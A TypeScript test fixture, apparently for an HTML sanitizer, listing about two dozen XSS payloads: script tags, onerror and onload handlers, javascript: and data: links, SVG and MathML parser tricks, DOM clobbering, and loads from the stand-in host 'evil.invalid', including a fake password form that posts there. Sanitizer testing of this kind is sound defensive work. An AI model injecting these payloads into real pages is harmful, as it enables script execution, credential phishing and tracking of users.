/** Where a hostile text would fetch something from. Nobody answers there. */
export const foreign = 'evil.invalid';

const act = 'window.ran=1;alert(1)';

/** What somebody with access to a platform might write into a notice, by what it tries. */
export const hostileHtml: [string, string][] = [
  ['script', `<script>${act}</script>`],
  ['foreign script', `<script src="https://${foreign}/x.js"></script>`],
  ['broken script', `<scr<script>ipt>${act}</scr</script>ipt>`],
  ['image with onerror', `<img src=x onerror="${act}">`],
  ['image from elsewhere, plain', `<img src="http://${foreign}/track.gif">`],
  ['image without quotes', `<img src=x:x onerror=${act}//`],
  ['svg with onload', `<svg onload="${act}"><animate onbegin="${act}" attributeName="x" dur="1s"></svg>`],
  ['svg script', `<svg><script>${act}</script></svg>`],
  [
    'svg foreign object',
    `<svg><foreignObject><iframe src="https://${foreign}/"></iframe></foreignObject></svg>`,
  ],
  [
    'svg use',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${act}</script></svg>#x"/></svg>`,
  ],
  [
    'math',
    `<math><mtext><table><mglyph><style><img src=x onerror="${act}"></style></mglyph></table></mtext></math>`,
  ],
  ['javascript link', `<a href="javascript:${act}">link</a>`],
  ['javascript link, hidden', `<a href=" jav&#x09;ascript:${act}">link</a>`],
  ['data link', `<a href="data:text/html,<script>${act}</script>">link</a>`],
  ['vbscript link', `<a href="vbscript:${act}">link</a>`],
  [
    'frame',
    `<iframe srcdoc="<script>parent.${act}</script>"></iframe><iframe src="javascript:${act}"></iframe>`,
  ],
  [
    'object and embed',
    `<object data="https://${foreign}/x.swf"></object><embed src="https://${foreign}/x.swf">`,
  ],
  ['style sheet', `<style>@import url(https://${foreign}/x.css); body { display: none }</style>`],
  [
    'foreign sheet',
    `<link rel="stylesheet" href="https://${foreign}/x.css"><base href="https://${foreign}/">`,
  ],
  [
    'style attribute',
    `<p style="position:fixed;inset:0;background:url(https://${foreign}/x.gif)">over all</p>`,
  ],
  ['refresh', `<meta http-equiv="refresh" content="0;url=https://${foreign}/">`],
  [
    'form',
    `<form action="https://${foreign}/"><input name="password" autofocus onfocus="${act}"><button>Log in</button></form>`,
  ],
  ['details', `<details open ontoggle="${act}"><summary>more</summary></details>`],
  [
    'media',
    `<video src="https://${foreign}/x.mp4" onerror="${act}"></video><audio src=x onerror="${act}"></audio>`,
  ],
  [
    'template and comment',
    `<template><img src=x onerror="${act}"></template><!--><img src=x onerror="${act}">-->`,
  ],
  [
    'end of the page',
    `</script></style></template></article></div><script>${act}</script><img src=x onerror="${act}">`,
  ],
  [
    'names of the page',
    `<p id="document">{}</p><div id="portal"></div><a name="location" href="https://${foreign}/">x</a>`,
  ],
];
